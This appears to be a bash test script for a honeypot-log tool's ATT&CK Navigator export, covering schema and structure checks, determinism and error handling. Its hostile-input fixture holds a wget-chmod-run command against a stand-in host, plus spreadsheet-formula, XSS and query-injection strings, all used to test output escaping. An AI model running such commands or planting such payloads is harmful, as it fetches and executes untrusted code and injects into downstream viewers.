#!/usr/bin/env bash
# export_navigator.sh — `actorprint export --format navigator` on simulated logs: one layer per
# campaign and actor plus dataset.json; every layer passes the project's layer-4.5 schema
# (tests/validate/navigator.mjs, skipped without node/ajv) and the shell's own structural checks:
# fixed fields, technique ids that exist in the shipped ATT&CK table, each technique under each
# of its tactics, scores against the campaign table; --campaign/--actor give the same bytes as
# the directory export; exporting twice gives identical files; a hostile session (quotes,
# backslashes, controls, invalid UTF-8, markup, formulas) still gives valid one-line JSON; misuse.
. "$(dirname "${BASH_SOURCE[0]}")/lib.sh"

TSV=$AP_SRC/data/attack/enterprise-techniques.tsv
VALIDATOR=$AP_SRC/tests/validate/navigator.mjs
HAVE_AJV=0
if command -v node >/dev/null 2>&1 && [ -d "$AP_SRC/tests/validate/node_modules/ajv" ]; then
    HAVE_AJV=1
else
    echo "note: node or tests/validate/node_modules missing (cd tests/validate && npm ci):" \
        "schema validation skipped, structural checks still run" >&2
fi
# A JSON parser for the checks that need one: python3, else node, else none.
if command -v python3 >/dev/null 2>&1; then JSON_TOOL=python3
elif command -v node >/dev/null 2>&1; then JSON_TOOL=node
else JSON_TOOL=; echo "note: neither python3 nor node: JSON parsing checks skipped" >&2; fi

# Exit 0 when every file given is valid JSON.
json_valid() {
    case "$JSON_TOOL" in
    python3) python3 -c 'import json,sys
for p in sys.argv[1:]:
    with open(p, "rb") as f: json.loads(f.read().decode("utf-8"))' "$@" ;;
    node) node -e 'const fs=require("fs"); const d=new TextDecoder("utf-8",{fatal:true});
for (const p of process.argv.slice(1)) JSON.parse(d.decode(fs.readFileSync(p)));' "$@" ;;
    *) return 0 ;;
    esac
}

# Prints, as ASCII JSON, the comments of the entries of technique $2 in layer file $1.
json_comments() {
    case "$JSON_TOOL" in
    python3) python3 -c 'import json,sys
l=json.load(open(sys.argv[1], encoding="utf-8"))
for t in l["techniques"]:
    if t["techniqueID"] == sys.argv[2]: print(json.dumps(t.get("comment", "")))' "$1" "$2" ;;
    node) node -e 'const l=JSON.parse(require("fs").readFileSync(process.argv[1],"utf8"));
for (const t of l.techniques) if (t.techniqueID === process.argv[2])
  console.log(JSON.stringify(t.comment ?? "").replace(/[\u007f-\uffff]/g,
    (c) => "\\u" + c.charCodeAt(0).toString(16).padStart(4, "0")));' "$1" "$2" ;;
    esac
}

# Structural checks of layer files, from their fixed layout (two-space indentation, one key per
# line; metadata entries on one line). Prints one line per problem; nothing when all is well.
check_layers() {
    local f
    for f in "$@"; do
        for need in '"layer": "4.5"' '"navigator": "5.1.0"' '"attack": "18"' \
            '"domain": "enterprise-attack"' '"platforms": ["Linux"]' '"sorting": 3' \
            '"hideDisabled": false' '"gradient": {' '"minValue": 0,'; do
            [ "$(grep -cF "$need" "$f")" = 1 ] || echo "$f: not exactly one $need"
        done
        # score <= layer sessions; gradient maxValue = highest score (1 without techniques)
        awk -v f="$f" '
            /^    \{"name": "sessions", "value": "/ { split($0, a, "\""); sessions = a[8] + 0 }
            /^      "score": / { s = $2 + 0; if (s > max) max = s; if (s <= 0) bad = bad " score " s }
            /^    "maxValue": / { gmax = $2 + 0 }
            END {
                if (sessions == 0) print f ": no layer sessions metadata"
                if (max > sessions) print f ": a score " max " above the layer sessions " sessions
                if (gmax != (max > 0 ? max : 1)) print f ": gradient maxValue " gmax " for highest score " max
                if (bad != "") print f ":" bad
            }' "$f"
    done
    # every technique id exists in the shipped table, its tactic is one of its tactics there, and
    # it is listed once under each of them
    awk -F'\t' -v OFS='\t' '
        FNR == NR { if (FNR > 1) { tactics[$1] = $3; n = split($3, t, ","); ntac[$1] = n } next }
        function emit() {
            if (id == "") return
            if (!(id in tactics)) print FILENAME ": " id " is not in enterprise-techniques.tsv"
            else if (tac == "" && ntac[id] > 0)
                print FILENAME ": " id " without a tactic (it has " tactics[id] ")"
            else if (tac != "" && index("," tactics[id] ",", "," tac ",") == 0)
                print FILENAME ": " id " under " tac ", not one of its tactics (" tactics[id] ")"
            key = FILENAME SUBSEP id SUBSEP tac
            if (key in seen) print FILENAME ": " id "/" tac " twice"
            seen[key] = 1; count[FILENAME SUBSEP id]++
            id = ""
        }
        /^      "techniqueID": / { emit(); split($0, a, "\""); id = a[4]; tac = "" }
        /^      "tactic": / { split($0, a, "\""); tac = a[4] }
        /^  \]/ { emit() }
        END {
            for (k in count) {
                split(k, p, SUBSEP)
                if ((p[2] in ntac) && ntac[p[2]] > 0 && count[k] != ntac[p[2]])
                    print p[1] ": " p[2] " listed " count[k] " times for " ntac[p[2]] " tactics"
            }
        }' "$TSV" "$@"
}

# ---- a store with campaigns and actors ----
SIM=$TMP/sim
run "$AP" simulate --out "$SIM" --days 3 --scale 0.3 --seed 5
assert_eq "simulate: exit 0" 0 "$RC"
run "$AP" run --db "$TMP/a.db" --asn "$SIM/ip2asn.tsv" --out "$TMP/o" -q -n 0 "$SIM"
assert_eq "run: exit 0" 0 "$RC"
CAMPAIGNS=$(($(wc -l <"$TMP/o/campaigns.csv") - 1))
ACTORS=$(tail -n +2 "$TMP/o/campaigns.csv" | cut -d, -f2 | grep '^A-' | sort -u | wc -l | tr -d ' ')
TOP=$(sed -n 2p "$TMP/o/campaigns.csv" | cut -d, -f1)
TOP_ACTOR=$(sed -n 2p "$TMP/o/campaigns.csv" | cut -d, -f2)
assert_match "store: campaigns ($CAMPAIGNS) and actors ($ACTORS)" "$CAMPAIGNS $ACTORS" '^[1-9][0-9]* [1-9][0-9]*$'

# ---- everything: one directory ----
L=$TMP/layers
run "$AP" export --db "$TMP/a.db" --format navigator --out "$L"
assert_eq "export all: exit 0" 0 "$RC"
assert_eq "export all: dataset.json" 1 "$(ls "$L" | grep -c '^dataset\.json$')"
assert_eq "export all: one layer per campaign" "$CAMPAIGNS" "$(ls "$L" | grep -c '^campaign-C-[0-9]*\.json$')"
assert_eq "export all: one layer per actor" "$ACTORS" "$(ls "$L" | grep -c '^actor-A-[0-9]*\.json$')"
assert_eq "export all: nothing else" "$((CAMPAIGNS + ACTORS + 1))" "$(ls "$L" | wc -l | tr -d ' ')"
assert_eq "structural checks of every layer" "" "$(check_layers "$L"/*.json | head -20)"
assert_contains "dataset layer name" "$(head -3 "$L/dataset.json")" '"name": "actorprint dataset"'
assert_contains "campaign layer names its campaign" "$(cat "$L/campaign-$TOP.json")" '{"name": "campaign", "value": "'"$TOP"'"}'
assert_contains "campaign layer names its actor" "$(cat "$L/campaign-$TOP.json")" '{"name": "actor", "value": "'"$TOP_ACTOR"'"}'
assert_match "campaign layer has first seen" "$(cat "$L/campaign-$TOP.json")" '\{"name": "first seen", "value": "2024-03-0[1-3]T[0-9:]{8}\.[0-9]{3}Z"\}'
# the layer's sessions and incidents are the campaign table's
bad=$(tail -n +2 "$TMP/o/campaigns.csv" | while IFS=, read -r c _ inc ses _; do
    f=$L/campaign-$c.json
    grep -qF '    {"name": "sessions", "value": "'"$ses"'"}' "$f" &&
        grep -qF '    {"name": "incidents", "value": "'"$inc"'"}' "$f" || echo "$c"
done | head -5)
assert_eq "campaign layers: sessions and incidents of campaigns.csv" "" "$bad"
# the mdrfckr key (T1098.004) is persistence and privilege escalation, and its parent shows it
mdr=$(grep -l '"techniqueID": "T1098.004"' "$L"/campaign-*.json | head -1)
if [ -n "$mdr" ]; then
    assert_eq "T1098.004 under both its tactics" 2 "$(grep -A1 '"techniqueID": "T1098.004"' "$mdr" | grep -cE '"tactic": "(persistence|privilege-escalation)"')"
    if grep -q '"techniqueID": "T1098",' "$mdr"; then
        assert_eq "T1098 shows its sub-techniques" 2 "$(awk '/"techniqueID": "T1098",/ {p=1} p && /showSubtechniques": true/ {n++; p=0} /^    }/ {p=0} END {print n+0}' "$mdr")"
    fi
else
    fail "no campaign layer has T1098.004 (the mdrfckr key)"
fi

if [ "$HAVE_AJV" = 1 ]; then
    run node "$VALIDATOR" "$L"/*.json
    assert_eq "schema: every layer valid" 0 "$RC"
    assert_eq "schema: one ok line per layer" "$((CAMPAIGNS + ACTORS + 1))" "$(grep -c '^ok ' <<<"$OUT")"
    [ "$RC" = 0 ] || golden_show "$(grep -v '^ok ' <<<"$OUT" | head -5)"
    # the validator does fail on a broken layer
    sed 's/"layer": "4.5"/"layer": "4.4"/' "$L/dataset.json" >"$TMP/bad-version.json"
    sed 's/"maxValue": [0-9]*/"maxValue": 0/' "$L/dataset.json" >"$TMP/bad-gradient.json"
    run node "$VALIDATOR" "$TMP/bad-version.json" "$TMP/bad-gradient.json"
    assert_eq "schema: a layer 4.4 and a gradient max of 0 fail" "1 2" "$RC $(grep -c '^FAIL ' <<<"$OUT")"
fi
if [ -n "$JSON_TOOL" ]; then
    json_valid "$L"/*.json
    assert_eq "every layer parses as UTF-8 JSON ($JSON_TOOL)" 0 "$?"
fi

# ---- one campaign or actor: the same bytes as in the directory ----
run "$AP" export --db "$TMP/a.db" --format navigator --campaign "$TOP"
assert_eq "export --campaign to stdout: exit 0" 0 "$RC"
printf '%s' "$OUT" >"$TMP/top.json"
assert_files_eq "export --campaign = the directory's layer" "$L/campaign-$TOP.json" "$TMP/top.json"
run "$AP" export --db "$TMP/a.db" --format navigator --actor "$TOP_ACTOR" --out "$TMP/actor.json"
assert_eq "export --actor --out FILE: exit 0" 0 "$RC"
assert_files_eq "export --actor = the directory's layer" "$L/actor-$TOP_ACTOR.json" "$TMP/actor.json"

# ---- determinism ----
run "$AP" export --db "$TMP/a.db" --format navigator --out "$TMP/layers2"
assert_eq "export again: exit 0" 0 "$RC"
assert_eq "export twice: identical files" "" "$(diff -r "$L" "$TMP/layers2" 2>&1 | head -5)"

# ---- hostile text in a command: still valid, one-line JSON ----
H=$TMP/hostile.json
cat >"$TMP/hostile.tmpl" <<'LINES'
{"eventid":"cowrie.session.connect","src_ip":"@IP@","src_port":4000,"dst_ip":"10.0.0.1","dst_port":22,"session":"@SID@","protocol":"ssh","message":"x","sensor":"hx","timestamp":"2024-05-01T10:00:00.000000Z"}
{"eventid":"cowrie.login.success","username":"root","password":"=cmd|' /C calc'!A0\"\\</script>","message":"x","sensor":"hx","timestamp":"2024-05-01T10:00:01.000000Z","src_ip":"@IP@","session":"@SID@"}
{"eventid":"cowrie.command.input","input":"uname -a '</script><img src=x onerror=alert(1)>' \"q\\\"x\\\\y\" \"=cmd|' /C calc'!A0\" \"' }) DETACH DELETE n //\" \"ctl\u0001\u001b[2J\u007f line1\nline2 \u2028 \u202e @BAD@ end\"","message":"x","sensor":"hx","timestamp":"2024-05-01T10:00:02.000000Z","src_ip":"@IP@","session":"@SID@"}
{"eventid":"cowrie.command.input","input":"wget -q http://evil.example/x; chmod +x x; ./x","message":"x","sensor":"hx","timestamp":"2024-05-01T10:00:02.500000Z","src_ip":"@IP@","session":"@SID@"}
{"eventid":"cowrie.session.file_download","url":"http://evil.example/x","outfile":"x","shasum":"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa","message":"x","sensor":"hx","timestamp":"2024-05-01T10:00:03.000000Z","src_ip":"@IP@","session":"@SID@"}
{"eventid":"cowrie.session.closed","duration":4.0,"message":"x","sensor":"hx","timestamp":"2024-05-01T10:00:04.000000Z","src_ip":"@IP@","session":"@SID@"}
LINES
BAD=$(printf '\xff\xfe')
for ip in 198.51.100.7 203.0.113.9; do
    LC_ALL=C sed -e "s/@IP@/$ip/g" -e "s/@SID@/hostile$(tr -d . <<<"$ip")/g" -e "s/@BAD@/$BAD/" \
        "$TMP/hostile.tmpl" >>"$H"
done
run "$AP" run --db "$TMP/h.db" --out "$TMP/oh" -q "$H"
assert_eq "hostile: run exit 0" 0 "$RC"
run "$AP" export --db "$TMP/h.db" --format navigator --out "$TMP/hl"
assert_eq "hostile: export exit 0" 0 "$RC"
assert_eq "hostile: structural checks" "" "$(check_layers "$TMP"/hl/*.json | head -10)"
hc=$(ls "$TMP"/hl/campaign-C-*.json | head -1)
assert_match "hostile: the campaign's layer exists" "$hc" 'campaign-C-[0-9]+\.json$'
assert_eq "hostile: no control bytes in the files" "" "$(LC_ALL=C grep -lP '[\x00-\x09\x0b-\x1f\x7f]' "$TMP"/hl/*.json)"
assert_eq "hostile: every line of the files is valid UTF-8" "" \
    "$(for f in "$TMP"/hl/*.json; do iconv -f UTF-8 -t UTF-8 "$f" >/dev/null 2>&1 || echo "$f"; done)"
if [ -n "$JSON_TOOL" ]; then
    json_valid "$TMP"/hl/*.json
    assert_eq "hostile: every layer parses as JSON" 0 "$?"
    c=$(json_comments "$hc" T1082 | head -1)
    assert_contains "hostile: the command is the example" "$c" 'Example: uname -a'
    assert_contains "hostile: markup kept as text" "$c" '</script><img src=x onerror=alert(1)>'
    assert_contains "hostile: formula kept as text" "$c" "=cmd|' /C calc'!A0"
    assert_contains "hostile: invalid UTF-8 replaced" "$c" '\ufffd'
    assert_match "hostile: comment is one line without controls or bidi" "$c" \
        '^"[^\\]*(\\("|\\|ufffd)[^\\]*)*"$'
fi
if [ "$HAVE_AJV" = 1 ]; then
    run node "$VALIDATOR" "$TMP"/hl/*.json
    assert_eq "hostile: schema valid" 0 "$RC"
fi

# ---- misuse ----
run "$AP" export --db "$TMP/a.db" --format navigator
assert_eq "export all without --out: exit 2" 2 "$RC"
run "$AP" export --db "$TMP/a.db" --format navigator --out -
assert_eq "export all to stdout: exit 2" 2 "$RC"
run "$AP" export --db "$TMP/a.db" --format navigator --campaign C-999999
assert_eq "unknown campaign: exit 3 (the store does not have it)" 3 "$RC"
assert_contains "unknown campaign: named" "$ERR" "C-999999"
assert_eq "unknown campaign: nothing on stdout" "" "$OUT"
if [ -w /dev/full ]; then
    run "$AP" export --db "$TMP/a.db" --format navigator --campaign "$TOP" --out /dev/full
    assert_eq "a full disk: exit 1" 1 "$RC"
    assert_contains "a full disk: says so" "$ERR" "/dev/full: write failed"
fi
: >"$TMP/a-file"
run "$AP" export --db "$TMP/a.db" --format navigator --out "$TMP/a-file"
assert_eq "export all into a file: exit 1" 1 "$RC"
assert_contains "export all into a file: says so" "$ERR" "not a directory"
assert_exit "--campaign that is not an id: exit 2" 2 "$AP" export --db "$TMP/a.db" --format navigator --campaign X-1

finish
